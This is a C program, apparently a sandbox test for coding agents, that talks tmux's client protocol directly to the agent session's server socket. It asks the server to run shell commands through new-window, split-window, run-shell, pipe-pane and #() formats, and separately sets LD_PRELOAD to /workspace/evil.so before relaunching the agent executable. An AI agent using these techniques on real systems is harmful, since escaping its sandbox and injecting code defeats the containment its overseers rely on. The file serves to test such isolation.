/*
 * ask-tmux [SOCKET PREFIX]: asks tmux's server, in its own protocol and without executing anything,
 * to start a shell in each way that it has. Each writes who it is to PREFIX-WAY. Without arguments
 * it is the program of an agent, in the pane of a session, asks that session's own server, and
 * waits to be ended.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "lib/base/cleanup.h"

/* tmux-protocol.h of tmux 3.3, and the header of OpenBSD's imsg_init(3). */
#define PROTOCOL_VERSION 8
#define SOCKET "/run/agent-tmux/tmux.sock"
#define WORDS_MAX 3
#define TEXT_MAX 256

enum message {
    IDENTIFY_TERM = 101,
    IDENTIFY_TTYNAME = 102,
    IDENTIFY_DONE = 106,
    IDENTIFY_CLIENTPID = 107,
    IDENTIFY_CWD = 108,
    IDENTIFY_LONGFLAGS = 111,
    COMMAND = 200,
};

struct header {
    uint32_t type;
    uint16_t size;
    uint16_t flags;
    uint32_t version;
    uint32_t pid;
};

/* clang-format off */
static const struct {
    const char *name;
    const char *words[WORDS_MAX]; /* before the last, which is the shell's line between these: */
    const char *before, *after;
} ways[] = {
    {"window",    {"new-window", "-d"},      "", ""},
    {"split",     {"split-window", "-d"},    "", ""},
    {"run-shell", {"run-shell"},             "", ""},
    {"pipe-pane", {"pipe-pane"},             "", ""},
    {"format",    {"display-message", "-p"}, "#(", ")"},
};
/* clang-format on */

static int send_message(int server, enum message type, const void *data, size_t size)
{
    char bytes[sizeof(struct header) + 4 * TEXT_MAX];
    const struct header header = {.type = type,
                                  .size = (uint16_t)(sizeof(header) + size),
                                  .version = PROTOCOL_VERSION,
                                  .pid = (uint32_t)getpid()};
    memcpy(bytes, &header, sizeof(header));
    if (size > 0)
        memcpy(bytes + sizeof(header), data, size);
    return send(server, bytes, header.size, MSG_NOSIGNAL) == header.size ? 0 : -1;
}

static int introduce(int server)
{
    const uint64_t flags = 0;
    const int32_t pid = getpid();
    int result = send_message(server, IDENTIFY_LONGFLAGS, &flags, sizeof(flags));
    result |= send_message(server, IDENTIFY_TERM, "dumb", sizeof("dumb"));
    result |= send_message(server, IDENTIFY_TTYNAME, "", 1);
    result |= send_message(server, IDENTIFY_CWD, "/", sizeof("/"));
    result |= send_message(server, IDENTIFY_CLIENTPID, &pid, sizeof(pid));
    result |= send_message(server, IDENTIFY_DONE, NULL, 0);
    return result;
}

/* A count, then the words, a NUL after each. */
static int command(int server, size_t way, const char *line)
{
    struct {
        int32_t count;
        char text[3 * TEXT_MAX];
    } words = {.count = 0};
    size_t used = 0;
    for (; words.count < WORDS_MAX && ways[way].words[words.count] != NULL; words.count++) {
        const char *word = ways[way].words[words.count];
        memcpy(words.text + used, word, strlen(word) + 1);
        used += strlen(word) + 1;
    }
    memcpy(words.text + used, line, strlen(line) + 1);
    used += strlen(line) + 1;
    words.count++;
    return send_message(server, COMMAND, &words, sizeof(words.count) + used);
}

static int ask(const char *socket_path, const char *prefix, size_t way)
{
    char line[TEXT_MAX];
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    /* Stays open: what a format runs is ended with its client. */
    int server = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    snprintf(address.sun_path, sizeof(address.sun_path), "%s", socket_path);
    snprintf(line, sizeof(line), "%sid -u >%s-%s%s", ways[way].before, prefix, ways[way].name,
             ways[way].after);
    if (connect(server, (const struct sockaddr *)&address, sizeof(address)) < 0 ||
        introduce(server) < 0 || command(server, way, line) < 0)
        return -1;
    /* Until the server has heard it, and says that this client may go. */
    char answer[TEXT_MAX];
    return recv(server, answer, sizeof(answer), 0) > 0 ? 0 : -1;
}

/* As the pane was started, by its very words, but with a variable that would load code into it and
 * into the program. */
static int ask_for_pane(const char *socket_path)
{
    static const char line[] =
        "set-environment\0-g\0LD_PRELOAD\0/workspace/evil.so\0;\0new-window\0-d\0"
        "/usr/libexec/coding-agents/agentcli-exec\0--pane";
    struct {
        int32_t count;
        char text[sizeof(line)];
    } words = {.count = 9};
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    char answer[TEXT_MAX];
    int server = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    snprintf(address.sun_path, sizeof(address.sun_path), "%s", socket_path);
    memcpy(words.text, line, sizeof(line));
    if (connect(server, (const struct sockaddr *)&address, sizeof(address)) < 0 ||
        introduce(server) < 0 ||
        send_message(server, COMMAND, &words, sizeof(words.count) + sizeof(line)) < 0)
        return -1;
    return recv(server, answer, sizeof(answer), 0) > 0 ? 0 : -1;
}

int main(int argc, char **argv)
{
    const char *path = argc == 3 ? argv[1] : SOCKET;
    const char *prefix = argc == 3 ? argv[2] : "/tmp/asked";
    for (size_t way = 0; way < ARRAY_LENGTH(ways); way++) {
        if (ask(path, prefix, way) < 0)
            printf("%s: %s\n", ways[way].name, strerror(errno));
    }
    if (argc != 3 && ask_for_pane(path) < 0)
        printf("pane: %s\n", strerror(errno));
    printf("asked\n");
    fflush(stdout);
    if (argc != 3)
        pause();
    sleep(1);
    return 0;
}
